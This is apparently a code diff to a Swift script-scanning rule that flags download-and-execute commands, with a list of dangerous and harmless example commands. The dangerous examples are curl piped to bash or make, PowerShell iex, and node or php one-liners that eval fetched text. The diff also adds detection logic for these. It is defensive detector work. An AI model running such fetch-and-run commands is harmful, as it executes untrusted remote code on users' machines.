@@ -27,11 +27,14 @@ extension RiskRule {
       "wget https://h/a.sh; ‹bash a.sh›",
       "curl -sL x | sudo -E ‹bash -›", "curl x | xargs -I{} ‹sh -c {}›",
       "‹at -f <(curl x) now›", "curl x | ‹crontab -›",
-      "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA",
+      "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA", "curl x | ‹make -f -›",
+      "node -e \"fetch('http://x').then(r=>r.text()).then(eval)\"", "php -r 'eval(file_get_contents(\"http://x\"));'",
+
     ],
     harmless: [
       "curl https://x", "curl https://x | grep sh", "curl https://x -o install.sh", "curl https://x | jq .",
       "curl x | python3 -m json.tool", "curl x | python3 -c 'print(1)'", "bash install.sh", "curl x | tee a.sh",
+      "node -e \"fetch('http://x').then(console.log)\"",
       "wget https://x/a.tgz && tar tf a.tgz",
     ]
   ) { script in
@@ -39,9 +42,12 @@ extension RiskRule {
       script.invocations.filter { ["curl", "wget"].contains($0.name ?? "") }.compactMap(downloadedFile))
     return script.invocations.compactMap { invocation in
       guard let name = invocation.name else { return nil }
-      if callsForCode(invocation, name, script) { return Match(level: .danger, range: invocation.range) }
+      if fetchesAndRuns(invocation, name) || callsForCode(invocation, name, script) {
+        return Match(level: .danger, range: invocation.range)
+      }
       let isRun =
-        (interpreters.contains(name) || schedulers.contains(name)) && !readsOwnProgram(invocation)
+        (interpreters.contains(name) || schedulers.contains(name) || readsMakefile(invocation, name))
+        && !readsOwnProgram(invocation)
         && script.sources(of: invocation).contains { fetchers.contains($0.name ?? "") }
       return isRun || runs(invocation, name, oneOf: downloads) ? Match(level: .danger, range: invocation.range) : nil
     }
@@ -50,10 +56,32 @@ extension RiskRule {
   /// What runs later what it reads now.
   private static let schedulers: Set<String> = ["at", "batch", "crontab"]
 
+  /// make that is given its rules instead of reading them from a file: `make -f -`.
+  private static func readsMakefile(_ invocation: Invocation, _ name: String) -> Bool {
+    ["make", "gmake"].contains(name)
+      && invocation.value(of: "-f", "--file", "--makefile").map {
+        $0 == "-" || $0.hasPrefix("/dev/") || $0.hasPrefix("<(")
+      }
+        == true
+  }
+
+  /// A program in its words that fetches a text and runs it: `node -e "fetch(x).then(eval)"`.
+  private static func fetchesAndRuns(_ invocation: Invocation, _ name: String) -> Bool {
+    guard interpreters.contains(name), let flag = codeFlags[name], let code = invocation.value(of: flag) else {
+      return false
+    }
+    return CodeText.fetchesAndRuns(code)
+  }
+
+  private static let codeFlags: [String: String] = [
+    "python": "-c", "python2": "-c", "python3": "-c", "perl": "-e", "ruby": "-e", "node": "-e", "php": "-r",
+    "lua": "-e", "deno": "eval", "bun": "-e", "Rscript": "-e",
+  ]
+
   /// PowerShell that is told to run what it fetches: `iex (iwr x)`, `pwsh -c "iex …DownloadString(…)"`.
   private static func callsForCode(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
     let evaluators: Set<String> = ["iex", "Invoke-Expression"]
-    if evaluators.contains(name) {
+    if evaluators.contains(name), script.invocations.count <= InvocationCollector.mostCompared {
       return script.invocations.contains { powerFetchers.contains($0.name ?? "") }
         || invocation.words.contains { ByteSearch.holds("DownloadString", in: $0) }
     }
